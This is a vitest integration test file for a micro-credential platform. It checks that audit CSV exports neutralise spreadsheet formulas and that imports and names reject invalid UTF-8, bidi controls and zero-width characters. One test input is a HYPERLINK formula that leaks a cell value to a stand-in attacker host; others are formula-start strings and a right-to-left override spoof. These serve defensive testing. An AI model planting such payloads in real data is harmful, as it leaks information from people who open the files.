import fs from 'node:fs';
import { setUp } from '../support/set-up.ts';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { parse } from 'csv-parse/sync';
import { databaseKinds, type TestDatabase } from '../support/databases.ts';
import { TestClient } from '../support/http.ts';
import { insertEdition, insertEnrolment } from '../support/cohort.ts';
import { buildApp } from '../../src/app.ts';
import { loadConfig } from '../../src/core/config.ts';
import { audit } from '../../src/core/audit.ts';
import { loadDemoIfEmpty } from '../../src/demo/load-demo.ts';
import { createInvitation } from '../../src/accounts/invitations.ts';
import { grantRole } from '../../src/accounts/memberships.ts';
import { createUser } from '../../src/accounts/users.ts';
import { getInstitution } from '../../src/institutions/store.ts';
import { main } from '../../src/cli/main.ts';

const fixtures = path.resolve(import.meta.dirname, '../fixtures');
const SCHELDE = 'hogeschool-schelde';
const system = { kind: 'system' as const, label: 'test' };
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Bekijk je attest")';

describe.each(databaseKinds())('data in, data out on $name', (kind) => {
  let database: TestDatabase;
  let app: FastifyInstance;
  let tokens: Record<string, string>;
  let env: Record<string, string>;
  const db = () => database.handle.db;

  beforeAll(async () => {
    database = await kind.open();
    const demo = await loadDemoIfEmpty(database.handle);
    tokens = Object.fromEntries((demo?.tokens ?? []).map((t) => [t.institution, t.token]));
    env = {
      ...database.env,
      STAPEL_MASTER_KEY: randomBytes(32).toString('hex'),
      STAPEL_PUBLIC_URL: 'http://localhost:3000',
      STAPEL_LOG_LEVEL: 'silent',
    };
    app = await buildApp({
      config: loadConfig({ ...env, PORT: '0' }),
      database: database.handle,
      logger: false,
      webRoot: '/nonexistent',
    });
    await app.ready();
  });
  afterAll(async () => {
    await app?.close();
    await database?.dispose();
  });

  const staff = (
    method: 'GET' | 'POST',
    url: string,
    options: { payload?: unknown; contentType?: string; lang?: string } = {},
  ) =>
    app.inject({
      method,
      url,
      headers: {
        authorization: `Bearer ${tokens[SCHELDE]}`,
        ...(options.contentType ? { 'content-type': options.contentType } : {}),
        ...(options.lang ? { 'accept-language': options.lang } : {}),
      },
      ...(options.payload === undefined ? {} : { payload: options.payload as string }),
    });

  const count = async (table: 'evaluations' | 'credentials' | 'micro_credentials' | 'users') =>
    Number(
      (
        await db()
          .selectFrom(table)
          .select((eb) => eb.fn.countAll().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );

  /** The `stapel` command in this process, against the same database. */
  const stapel = async (...args: string[]) => {
    let stdout = '';
    let stderr = '';
    const sink = (write: (s: string) => void) =>
      new Writable({
        write(chunk, _encoding, done) {
          write(String(chunk));
          done();
        },
      });
    const saved = { ...process.env };
    Object.assign(process.env, env);
    try {
      const code = await main(
        ['node', 'stapel', ...args],
        sink((s) => (stdout += s)),
        sink((s) => (stderr += s)),
      );
      return { code, stdout, stderr };
    } finally {
      for (const key of Object.keys(env)) if (!(key in saved)) delete process.env[key];
      Object.assign(process.env, saved);
    }
  };

  it('exports the audit log with every cell that a spreadsheet would run as a formula neutralised', async () => {
    const institution = await getInstitution(db(), SCHELDE);
    // A staff member whose name is a formula does something the log records.
    const email = `formula-${randomBytes(3).toString('hex')}@example.org`;
    await setUp(database.handle, async (cmd) => {
      const { tx } = cmd;
      const { user } = await createUser(tx, { email, name: HYPERLINK, password: 'a long staff password 1' });
      await grantRole(cmd, { id: institution.id }, { userId: user.id, role: 'designer' });
    });
    const designer = new TestClient(app);
    expect((await designer.signIn(email, 'a long staff password 1')).statusCode).toBe(200);
    const created = await designer.post(`/api/v1/manage/${SCHELDE}/course-units`, {
      code: 'CU-FORMULA',
      title: { nl: '+SUM(1;2)' },
      ects: 3,
      vksLevel: 6,
      qaInternal: true,
      qaExternal: true,
    });
    expect(created.statusCode).toBe(201);
    // Other starts a spreadsheet reads as a formula, as the labels of records.
    const payloads = ['+31 2 123 45 67', '-1+1', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
    await database.handle.transaction(async (tx) => {
      for (const label of payloads)
        await audit(
          tx,
          { kind: 'system', label },
          {
            action: 'test.formula',
            objectType: 'test',
            objectId: '-2+3',
            institutionId: institution.id,
          },
        );
    });

    const exported = await staff('GET', `/api/v1/manage/${SCHELDE}/audit?format=csv&limit=10000`);
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toContain('text/csv');
    const rows: string[][] = parse(exported.body, { relax_column_count: true });
    expect(rows[0]).toEqual([
      'at',
      'actor_type',
      'actor',
      'role',
      'action',
      'object_type',
      'object_id',
      'before',
      'after',
    ]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const actors = rows.map((r) => r[2]);
    expect(actors).toContain(`'${HYPERLINK} <${email}>`);
    for (const label of payloads) expect(actors).toContain(`'${label}`);
    expect(rows.filter((r) => r[4] === 'test.formula').map((r) => r[6])).toEqual(Array(5).fill(`'-2+3`));
    // The title stays inside the JSON of the record, where it starts no cell; the JSON list is untouched.
    const list = (await staff('GET', `/api/v1/manage/${SCHELDE}/audit?action=test.formula`)).json();
    expect(list.map((e: { actor: { label: string } }) => e.actor.label).sort()).toEqual([...payloads].sort());
  });

  it('refuses a results file with bytes that are not UTF-8, naming the line, and imports nothing', async () => {
    const editionId = await insertEdition(database.handle, 'LEAN-UTF8', 'PV-LEAN', SCHELDE);
    for (const who of ['utf.an', 'utf.bo', 'utf.cy'])
      await insertEnrolment(database.handle, editionId, `${who}@example.org`, { status: 'accepted' });
    const url = `/api/v1/manage/${SCHELDE}/editions/LEAN-UTF8/results/import`;
    const bytes = fs.readFileSync(path.join(fixtures, 'results/invalid-utf8.csv'));
    const before = await count('evaluations');

    const nl = await staff('POST', url, { payload: bytes, contentType: 'text/csv', lang: 'nl-BE' });
    expect(nl.statusCode).toBe(422);
    expect(nl.json()).toMatchObject({
      ok: false,
      imported: 0,
      code: 'validation-failed',
      problems: [
        {
          line: 3,
          field: '(file)',
          rule: 'csv-encoding',
          message: expect.stringContaining('regel 3 is geen geldige UTF-8'),
        },
      ],
      errors: [{ field: 'line 3: (file)', rule: 'csv-encoding' }],
    });
    const en = await staff('POST', url, {
      payload: bytes,
      contentType: 'text/csv; charset=utf-8',
      lang: 'en',
    });
    expect(en.statusCode).toBe(422);
    expect(en.json().problems[0].message).toContain('line 3 is not valid UTF-8');

    // The web page reads the file in the browser, which puts U+FFFD where the bytes were: refused the same.
    const lenient = await staff('POST', url, { payload: { csv: bytes.toString('utf8') }, lang: 'en' });
    expect(lenient.statusCode).toBe(422);
    expect(lenient.json().problems).toEqual([
      {
        line: 3,
        field: '(file)',
        rule: 'csv-encoding',
        message: expect.stringContaining('line 3 contains \uFFFD'),
      },
    ]);
    expect(await count('evaluations')).toBe(before);

    // The same file saved as UTF-8, with the byte order mark spreadsheets write, imports whole.
    const utf8 = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from(bytes.toString('latin1'), 'utf8'),
    ]);
    const imported = await staff('POST', url, { payload: utf8, contentType: 'text/csv' });
    expect(imported.statusCode).toBe(200);
    expect(imported.json()).toMatchObject({ ok: true, imported: 3 });
    const types = await db()
      .selectFrom('evaluations')
      .select('assessment_type')
      .where('assessment_type', 'like', '%caf%')
      .execute();
    expect(types.map((t) => t.assessment_type)).toEqual(['Verbeterproject in het café']);
  });

  it('refuses an award file with bytes that are not UTF-8 (exit 2, the line named), and issues nothing', async () => {
    const before = await count('credentials');
    const bad = await stapel(
      'award',
      '--micro-credential',
      'PV-LEAN',
      '--csv',
      path.join(fixtures, 'awards/invalid-utf8.csv'),
    );
    expect(bad.code, bad.stderr).toBe(2);
    expect(bad.stderr).toContain('line 3: (file): is not valid UTF-8');
    expect(bad.stderr).toContain('Nothing was awarded: 1 problem(s)');
    expect(await count('credentials')).toBe(before);

    // Names shown on a credential follow the text rules, on the command line as in a file.
    const named = await stapel(
      'award',
      '--micro-credential',
      'PV-LEAN',
      '--learner',
      'rtl@example.org',
      '--name',
      'An \u202Esreteep',
    );
    expect(named.code).toBe(2);
    expect(named.stderr).toContain('[text-bidi-control]');
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'stapel-award-')), 'invisible.csv');
    fs.writeFileSync(file, 'email,name,score\ninvisible@example.org,\u200B\u200B,15\n');
    const invisible = await stapel('award', '--micro-credential', 'PV-LEAN', '--csv', file);
    expect(invisible.code).toBe(2);
    expect(invisible.stderr).toContain('line 2: name: Contains only invisible characters');
    expect(await count('credentials')).toBe(before);
  });

  it('refuses a micro-credential title with a bidi control or only zero-width spaces, with the rule id', async () => {
    const before = await count('micro_credentials');
    const body = (title: string) => ({
      code: 'PV-TEXT',
      title: { nl: title, en: 'Text' },
      form: 'outside-regular',
      ects: 2,
      vksLevel: 6,
      language: 'nl',
    });
    const url = `/api/v1/manage/${SCHELDE}/micro-credentials`;
    const bidi = await staff('POST', url, { payload: body('Lean \u202Eerg vals'), lang: 'nl' });
    expect(bidi.statusCode).toBe(422);
    expect(bidi.json().errors).toEqual([
      {
        field: 'title.nl',
        rule: 'text-bidi-control',
        message: expect.stringContaining('leesrichting omkeert (U+202E)'),
      },
    ]);
    const invisible = await staff('POST', url, { payload: body('\u200B'), lang: 'en' });
    expect(invisible.statusCode).toBe(422);
    expect(invisible.json().errors).toEqual([
      {
        field: 'title.nl',
        rule: 'text-invisible-only',
        message: expect.stringContaining('only invisible characters'),
      },
    ]);
    expect(await count('micro_credentials')).toBe(before);
    expect((await staff('POST', url, { payload: body('Lean in de zorg') })).statusCode).toBe(201);
  });

  it('refuses names made of zero-width spaces or carrying bidi controls, at sign-up and invitation', async () => {
    const users = await count('users');
    const signUp = await new TestClient(app).post(
      '/api/v1/accounts',
      { email: 'zero-width@example.org', name: '\u200b\u200b', password: 'a long learner password 1' },
      { 'accept-language': 'nl' },
    );
    expect(signUp.statusCode).toBe(422);
    expect(signUp.json().errors).toEqual([
      { field: 'name', rule: 'text-invisible-only', message: expect.stringContaining('onzichtbare tekens') },
    ]);

    const institution = await getInstitution(db(), SCHELDE);
    const { token } = await database.handle.transaction((tx) =>
      createInvitation(tx, system, institution, { email: 'invited-rtl@example.org', role: 'assessor' }),
    );
    const accepted = await new TestClient(app).post('/api/v1/invitations/accept', {
      token,
      name: 'Eva \u202Esneep',
      password: 'a long staff password 1',
    });
    expect(accepted.statusCode).toBe(422);
    expect(accepted.json().errors[0]).toMatchObject({ field: 'name', rule: 'text-bidi-control' });
    expect(await count('users')).toBe(users);
  });

  it('answers 400 naming the parameter for audit dates that are not real instants; real ones work', async () => {
    const url = `/api/v1/manage/${SCHELDE}/audit`;
    for (const value of ['9999-12-31T23:59:60Z', '2026-02-30T00:00:00Z', 'garbage']) {
      for (const parameter of ['from', 'to']) {
        const res = await staff('GET', `${url}?${parameter}=${encodeURIComponent(value)}`, { lang: 'nl' });
        expect(res.statusCode, `${parameter}=${value}`).toBe(400);
        expect(res.headers['content-type']).toContain('application/problem+json');
        expect(res.json()).toMatchObject({
          status: 400,
          code: 'bad-request',
          detail: `Ongeldige parameter in de zoekopdracht: ${parameter}.`,
          errors: [
            {
              field: `querystring.${parameter}`,
              rule: 'instant-format',
              message: expect.stringContaining('geen bestaand tijdstip'),
            },
          ],
        });
      }
    }
    const both = await staff('GET', `${url}?from=garbage&to=2026-02-30T00:00:00Z`, { lang: 'en' });
    expect(both.statusCode).toBe(400);
    expect(both.json().detail).toBe('Invalid query parameter: from, to.');
    expect(both.json().errors[1].message).toContain('"2026-02-30T00:00:00Z" is not a real instant');

    const from = new Date(Date.now() - 86_400_000).toISOString();
    const ok = await staff('GET', `${url}?from=${from}&to=2999-12-31T23:59:59Z`);
    expect(ok.statusCode).toBe(200);
    expect(Array.isArray(ok.json())).toBe(true);
    const offset = await staff(
      'GET',
      `${url}?from=${encodeURIComponent('2026-01-01T00:00:00+01:00')}&format=csv`,
    );
    expect(offset.statusCode).toBe(200);
  });
});
